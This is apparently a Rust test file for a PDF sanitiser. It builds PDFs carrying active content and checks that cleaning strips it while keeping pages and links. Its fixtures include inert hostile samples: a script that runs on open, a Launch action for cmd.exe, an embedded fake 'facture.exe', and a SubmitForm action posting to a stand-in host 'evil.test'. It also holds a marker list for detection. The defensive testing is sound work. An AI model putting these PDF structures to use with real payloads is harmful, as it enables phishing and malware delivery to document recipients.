use lopdf::{Dictionary, Document, Object, ObjectId, Stream, dictionary};

use super::clean;
use crate::uploads::DOCUMENT_MAX_BYTES;

const SCRIPT: &str = "app.alert('hameçonnage')";

type Add = Box<dyn Fn(&mut Document, ObjectId, [ObjectId; 2])>;

/// A two-page PDF with text and a web link on each page; `add` puts active content in it.
fn build(add: &dyn Fn(&mut Document, ObjectId, [ObjectId; 2]), object_streams: bool) -> Vec<u8> {
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let font = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
    });
    let mut pages = Vec::new();
    for text in ["Certificat de realisation signe", "Page 2"] {
        let content = doc.add_object(Stream::new(
            dictionary! {},
            format!("BT /F1 12 Tf 72 720 Td ({text}) Tj ET").into_bytes(),
        ));
        let link = doc.add_object(link("https://www.transitionspro.fr/"));
        pages.push(doc.add_object(dictionary! {
            "Type" => "Page",
            "Parent" => pages_id,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
            "Contents" => content,
            "Resources" => dictionary! { "Font" => dictionary! { "F1" => font } },
            "Annots" => vec![Object::Reference(link)],
        }));
    }
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages",
            "Kids" => pages.iter().map(|id| Object::Reference(*id)).collect::<Vec<_>>(),
            "Count" => 2,
        }),
    );
    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    doc.trailer.set("Root", catalog);
    add(&mut doc, catalog, [pages[0], pages[1]]);
    let mut out = Vec::new();
    if object_streams {
        doc.save_modern(&mut out).expect("save");
    } else {
        doc.save_to(&mut out).expect("save");
    }
    out
}

fn link(uri: &str) -> Dictionary {
    dictionary! {
        "Type" => "Annot",
        "Subtype" => "Link",
        "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
        "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal(uri) },
    }
}

fn js() -> Dictionary {
    dictionary! { "S" => "JavaScript", "JS" => Object::string_literal(SCRIPT) }
}

fn set(doc: &mut Document, id: ObjectId, key: &str, value: impl Into<Object>) {
    doc.get_object_mut(id)
        .and_then(Object::as_dict_mut)
        .expect("dictionary")
        .set(key, value);
}

fn annotate(doc: &mut Document, page: ObjectId, annotation: Dictionary) {
    let id = doc.add_object(annotation);
    doc.get_object_mut(page)
        .and_then(Object::as_dict_mut)
        .and_then(|p| p.get_mut(b"Annots"))
        .and_then(Object::as_array_mut)
        .expect("annots")
        .push(Object::Reference(id));
}

fn embedded_file(doc: &mut Document) -> ObjectId {
    let data = doc.add_object(Stream::new(
        dictionary! { "Type" => "EmbeddedFile" },
        b"MZ\x90\x00 not a real program".to_vec(),
    ));
    doc.add_object(dictionary! {
        "Type" => "Filespec",
        "F" => Object::string_literal("facture.exe"),
        "EF" => dictionary! { "F" => data },
    })
}

/// Every piece of active content the kinds below cover, written as a test builds it.
fn cases() -> Vec<(&'static str, &'static str, Add)> {
    vec![
        (
            "a script run on opening",
            "open_action",
            Box::new(|d, cat, _| {
                let a = d.add_object(js());
                set(d, cat, "OpenAction", a);
            }),
        ),
        (
            "a program launched on opening",
            "open_action",
            Box::new(|d, cat, _| {
                set(
                    d,
                    cat,
                    "OpenAction",
                    dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") },
                );
            }),
        ),
        (
            "a script run when the document closes",
            "additional_actions",
            Box::new(|d, cat, _| {
                set(d, cat, "AA", dictionary! { "WC" => js() });
            }),
        ),
        (
            "a script run when a page opens",
            "javascript",
            Box::new(|d, _, [p, _]| {
                let a = d.add_object(js());
                set(d, p, "AA", dictionary! { "O" => a });
            }),
        ),
        (
            "document scripts in the name tree, in a stream",
            "javascript",
            Box::new(|d, cat, _| {
                let code = d.add_object(Stream::new(dictionary! {}, SCRIPT.as_bytes().to_vec()));
                let a = d.add_object(dictionary! { "S" => "JavaScript", "JS" => code });
                set(
                    d,
                    cat,
                    "Names",
                    dictionary! {
                        "JavaScript" => dictionary! { "Names" => vec![Object::string_literal("init"), Object::Reference(a)] },
                    },
                );
            }),
        ),
        (
            "an embedded file",
            "embedded_files",
            Box::new(|d, cat, _| {
                let f = embedded_file(d);
                set(
                    d,
                    cat,
                    "Names",
                    dictionary! {
                        "EmbeddedFiles" => dictionary! { "Names" => vec![Object::string_literal("facture.exe"), Object::Reference(f)] },
                    },
                );
            }),
        ),
        (
            "a file attachment annotation",
            "file_attachment",
            Box::new(|d, _, [p, _]| {
                let f = embedded_file(d);
                annotate(
                    d,
                    p,
                    dictionary! {
                        "Type" => "Annot", "Subtype" => "FileAttachment", "FS" => f,
                        "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
                    },
                );
            }),
        ),
        (
            "a link that submits a form",
            "submit_form",
            Box::new(|d, _, [p, _]| {
                let mut l = link("https://ok.test/");
                l.set("A", dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("https://evil.test/collect") });
                annotate(d, p, l);
            }),
        ),
        (
            "a form field that imports data and checks keystrokes",
            "import_data",
            Box::new(|d, cat, [p, _]| {
                let w = d.add_object(dictionary! {
                "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "T" => Object::string_literal("nom"),
                "Rect" => vec![0.into(), 0.into(), 100.into(), 20.into()], "P" => p,
                "A" => dictionary! { "S" => "ImportData", "F" => Object::string_literal("donnees.fdf") },
                "AA" => dictionary! { "K" => js() },
            });
                set(
                    d,
                    cat,
                    "AcroForm",
                    dictionary! { "Fields" => vec![Object::Reference(w)] },
                );
            }),
        ),
        (
            "rich media",
            "rich_media",
            Box::new(|d, _, [_, p]| {
                annotate(
                    d,
                    p,
                    dictionary! {
                        "Type" => "Annot", "Subtype" => "RichMedia",
                        "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
                        "RichMediaContent" => dictionary! { "Assets" => dictionary! {} },
                    },
                );
            }),
        ),
        (
            "an XFA form",
            "xfa",
            Box::new(|d, cat, _| {
                let xfa = d.add_object(Stream::new(
                    dictionary! {},
                    b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>".to_vec(),
                ));
                set(
                    d,
                    cat,
                    "AcroForm",
                    dictionary! { "Fields" => Vec::<Object>::new(), "XFA" => xfa },
                );
            }),
        ),
        (
            "a script chained after a web link",
            "javascript",
            Box::new(|d, _, [p, _]| {
                let a = d.add_object(js());
                let mut l = link("https://ok.test/");
                l.set("A", dictionary! { "S" => "URI", "URI" => Object::string_literal("https://ok.test/"), "Next" => a });
                annotate(d, p, l);
            }),
        ),
        (
            "a javascript: link",
            "javascript",
            Box::new(|d, _, [p, _]| {
                annotate(d, p, link(" JavaScript:app.alert(1)"));
            }),
        ),
    ]
}

/// Names only active content uses, as keys or values (independent of the code under test).
const MARKERS: &[&[u8]] = &[
    b"OpenAction",
    b"AA",
    b"JS",
    b"JavaScript",
    b"EmbeddedFiles",
    b"EmbeddedFile",
    b"EF",
    b"XFA",
    b"Launch",
    b"SubmitForm",
    b"ImportData",
    b"FileAttachment",
    b"RichMedia",
    b"RichMediaContent",
];

fn markers(object: &Object, out: &mut Vec<String>) {
    let dict = |d: &Dictionary, out: &mut Vec<String>| {
        for (k, v) in d.iter() {
            if MARKERS.contains(&k.as_slice()) {
                out.push(String::from_utf8_lossy(k).into_owned());
            }
            markers(v, out);
        }
    };
    match object {
        Object::Name(n) if MARKERS.contains(&n.as_slice()) => {
            out.push(String::from_utf8_lossy(n).into_owned());
        }
        Object::String(s, _)
            if s.trim_ascii_start()
                .to_ascii_lowercase()
                .starts_with(b"javascript:") =>
        {
            out.push("javascript: link".into());
        }
        Object::Array(items) => items.iter().for_each(|i| markers(i, out)),
        Object::Dictionary(d) => dict(d, out),
        Object::Stream(s) => dict(&s.dict, out),
        _ => {}
    }
}

fn active_content(bytes: &[u8]) -> Vec<String> {
    let doc = Document::load_mem(bytes).expect("parses");
    let mut out = Vec::new();
    for object in doc.objects.values() {
        markers(object, &mut out);
    }
    if bytes.windows(9).any(|w| w == b"app.alert") {
        out.push("script text".into());
    }
    out
}

fn assert_pages_and_links_kept(bytes: &[u8], name: &str) {
    let doc = Document::load_mem(bytes).expect("parses");
    let pages = doc.get_pages();
    assert_eq!(pages.len(), 2, "{name}: pages kept");
    let content = doc.get_page_content(pages[&1]);
    assert!(
        content.windows(10).any(|w| w == b"Certificat"),
        "{name}: text kept"
    );
    let page = doc.get_dictionary(pages[&1]).expect("page");
    let links = page
        .get(b"Annots")
        .and_then(Object::as_array)
        .expect("annots")
        .iter()
        .filter_map(|a| a.as_reference().ok())
        .filter_map(|id| doc.get_dictionary(id).ok())
        .filter(|a| {
            a.get(b"A")
                .and_then(Object::as_dict)
                .and_then(|a| a.get(b"URI"))
                .and_then(Object::as_str)
                .is_ok_and(|u| u.starts_with(b"https://"))
        })
        .count();
    assert!(links >= 1, "{name}: web links kept");
}

#[test]
fn each_kind_of_active_content_is_removed_and_the_pages_stay() {
    for object_streams in [false, true] {
        for (name, kind, add) in cases() {
            let input = build(add.as_ref(), object_streams);
            assert!(
                !active_content(&input).is_empty(),
                "{name}: the test PDF has it"
            );
            let c = clean(&input, DOCUMENT_MAX_BYTES).expect(name);
            assert!(c.removed.contains(&kind), "{name}: {:?}", c.removed);
            assert_eq!(active_content(&c.bytes), Vec::<String>::new(), "{name}");
            assert_pages_and_links_kept(&c.bytes, name);
        }
    }
}

#[test]
fn a_clean_pdf_read_strictly_is_stored_as_sent() {
    let input = build(&|_, _, _| {}, false);
    let c = clean(&input, DOCUMENT_MAX_BYTES).expect("clean");
    assert_eq!(c.bytes, input, "an electronic signature would stay valid");
    assert!(c.removed.is_empty());
}

#[test]
fn a_pdf_lopdf_must_repair_is_rewritten_with_its_pages() {
    let mut input = build(&|_, _, _| {}, false);
    // Point the cross-reference offset elsewhere: only a lenient reader recovers the file.
    let at = input
        .windows(9)
        .rposition(|w| w == b"startxref")
        .expect("startxref");
    input.truncate(at);
    input.extend_from_slice(b"startxref\n9\n%%EOF\n");
    let c = clean(&input, DOCUMENT_MAX_BYTES).expect("repaired");
    assert_ne!(c.bytes, input);
    assert_pages_and_links_kept(&c.bytes, "repaired");
}

#[test]
fn what_cannot_be_stored_within_the_limit_is_refused() {
    let input = build(
        &|d, cat, _| {
            let a = d.add_object(js());
            set(d, cat, "OpenAction", a);
        },
        false,
    );
    let err = clean(&input, 600).expect_err("over the limit once rewritten");
    match err {
        crate::AppError::Validation(e) => assert_eq!(e[0].code.code(), "invalid_pdf"),
        other => panic!("{other:?}"),
    }
}
